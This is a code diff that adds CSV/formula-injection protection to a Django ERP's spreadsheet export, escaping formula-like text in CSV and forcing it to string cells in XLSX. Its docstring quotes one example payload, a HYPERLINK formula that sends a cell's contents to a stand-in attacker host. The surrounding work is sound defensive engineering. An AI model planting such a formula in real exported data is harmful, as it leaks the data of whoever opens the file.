@@ -4,6 +4,17 @@ Small exports answer at once. One of more than ``settings.EXPORT_INLINE_ROWS`` r
 ExportJob: a Celery task replays the same view for the same user (so the same filters and the same
 permission scope apply) and writes the file with progress, which the export's page shows until the
 file can be downloaded.
+
+Every cell goes through ``cell``, the one place that keeps exported text from acting as a formula when
+the file is opened (CSV/formula injection: a customer named ``=HYPERLINK("http://evil.example/?d="&B2,
+"Click")``). Text that starts with = + - @, a tab or a carriage return (``FORMULA_PREFIXES``) is written:
+- in CSV with an apostrophe before it (``'=HYPERLINK(…)``): a CSV has no cell types, and spreadsheets
+  show the apostrophe-led field as text;
+- in XLSX unchanged, as a string cell (``t="inlineStr"``), never a formula: Excel and LibreOffice show it
+  as text and the file keeps the exact value.
+Numbers, dates and empty cells stay what they are (a negative number is a number, not text). The imports
+read ``'=…`` back without the apostrophe (``erp.imports.parsers.cell_text``), so an export re-imported
+gives the same text, and text starting with = is refused there as a formula.
 """
 
 from __future__ import annotations
@@ -14,7 +25,7 @@ import tempfile
 from collections.abc import Callable, Iterator, Sequence
 from datetime import date, datetime
 from decimal import Decimal
-from typing import TYPE_CHECKING, Any, BinaryIO
+from typing import TYPE_CHECKING, Any, BinaryIO, TypeGuard
 
 from django.conf import settings
 from django.contrib import messages
@@ -26,7 +37,10 @@ from django.shortcuts import redirect
 from django.utils import timezone
 from django.utils.translation import gettext as _
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet._write_only import WriteOnlyWorksheet
 
 from erp.access_log import record_export
 from erp.models import ExportJob
@@ -40,14 +54,44 @@ PROGRESS_EVERY = 2000
 Rows = QuerySet[Any] | Sequence[Any]  # a list's rows: a queryset, or rows already read
 Columns = Sequence[tuple["StrOrPromise", Callable[[Any], object]]]  # (header, function(row) -> value)
 CellValue = datetime | date | Decimal | int | float | str | None
+# Text starting with one of these is a formula (or DDE) to a spreadsheet opening the file.
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 
 
 def cell(value: object) -> CellValue:
+    """The value as a spreadsheet cell: local naive date-times, numbers and dates as they are, anything
+    else as text."""
     if isinstance(value, datetime):
         return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
     if isinstance(value, date | Decimal | int | float) or value is None:
         return value
     return str(value)
+
+
+def is_formula_like(value: object) -> TypeGuard[str]:
+    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
+
+
+def csv_field(value: object) -> object:
+    """A cell for the CSV writer: '' for empty; text a spreadsheet would run, after an apostrophe."""
+    value = cell(value)
+    if value is None:
+        return ""
+    return "'" + value if is_formula_like(value) else value
+
+
+def xlsx_cell(sheet: WriteOnlyWorksheet, value: object) -> object:
+    """A cell for the XLSX writer: text a spreadsheet would run as a string cell (openpyxl would make
+    "=…" a formula); control characters XML cannot hold are dropped (openpyxl refuses them)."""
+    value = cell(value)
+    if not isinstance(value, str):
+        return value
+    value = ILLEGAL_CHARACTERS_RE.sub("", value)
+    if not is_formula_like(value):
+        return value
+    text = WriteOnlyCell(sheet, value)
+    text.data_type = "s"
+    return text
 
 
 def row_count(rows: Rows) -> int:
@@ -73,18 +117,18 @@ def write_file(*, rows: Rows, columns: Columns, filename: str, fmt: str, target:
         text = io.TextIOWrapper(target, encoding="utf-8", newline="", write_through=True)
         text.write("\ufeff")  # Excel opens UTF-8 CSV with Chinese correctly only with a BOM
         writer = csv.writer(text)
-        writer.writerow(headers)
+        writer.writerow([csv_field(header) for header in headers])
         for row in counted():
-            writer.writerow(["" if (v := cell(getter(row))) is None else v for _header, getter in columns])
+            writer.writerow([csv_field(getter(row)) for _header, getter in columns])
         text.detach()
         return
     workbook = Workbook(write_only=True)
     sheet = workbook.create_sheet(title=filename[:31])
     for index, header in enumerate(headers, start=1):
         sheet.column_dimensions[get_column_letter(index)].width = max(12, len(header) * 2)
-    sheet.append(headers)
+    sheet.append([xlsx_cell(sheet, header) for header in headers])
     for row in counted():
-        sheet.append([cell(getter(row)) for _header, getter in columns])
+        sheet.append([xlsx_cell(sheet, getter(row)) for _header, getter in columns])
     workbook.save(target)
 
 
